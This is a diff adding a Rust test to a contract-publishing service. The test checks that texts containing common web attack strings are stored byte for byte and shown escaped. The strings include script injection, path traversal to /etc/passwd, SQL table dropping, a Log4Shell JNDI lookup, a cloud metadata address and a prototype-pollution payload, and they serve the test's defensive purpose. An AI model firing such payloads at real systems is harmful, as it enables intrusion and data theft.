@@ -38,6 +38,29 @@ async fn a_published_text_is_kept_to_the_byte_and_its_clauses_lose_nothing_of_it
     assert_eq!(anyone.get(&format!("{base}/clauses/9.9")).await.unwrap().code(), "not-found");
 }
 
+/// Why the firewall does not refuse them on AWS: they are texts like any other (docs/decisions/0046).
+#[tokio::test(flavor = "multi_thread")]
+async fn what_looks_like_an_attack_is_kept_to_the_byte_and_shown_as_text() {
+    let world = World::new().await;
+    let stage = Stage::set(&world.running).await;
+    let mut text = "1.接口\n1.1<script>alert(1)</script>\n1.2http://192.168.1.10/x\n1.3../../etc/passwd\n\
+                    1.4'; DROP TABLE orders; -- SELECT * FROM users\n1.5${jndi:ldap://example.com/a}\n\
+                    1.6http://169.254.169.254/latest/meta-data/\n1.7{\"then\":\"$1:__proto__:then\"}\n"
+        .to_owned();
+    text += &"2.条款很长。\n".repeat(1_000);
+    for document in ["northwind.ini", "northwind.env"] {
+        let version = json!({ "kind": "subscription", "title": "<b>服务订购协议</b>", "text": text });
+        let path = format!("/documents/{document}/versions");
+        let published = stage.provider.post(&path, version).await.unwrap();
+        assert_eq!(published.status, 201, "{}", published.text);
+        let anyone = Client::anonymous(&world.running);
+        assert_eq!(anyone.get(&format!("{path}/1/text")).await.unwrap().text, text);
+        let page = anyone.get(&format!("{path}/1/page?language=en")).await.unwrap();
+        assert!(page.is_ok() && page.text.contains("alert(1)"), "{}", page.text);
+        assert!(!page.text.contains("<script>alert") && !page.text.contains("<b>服务"), "{}", page.text);
+    }
+}
+
 #[tokio::test(flavor = "multi_thread")]
 async fn accepting_version_one_does_not_satisfy_version_two() {
     let world = World::new().await;
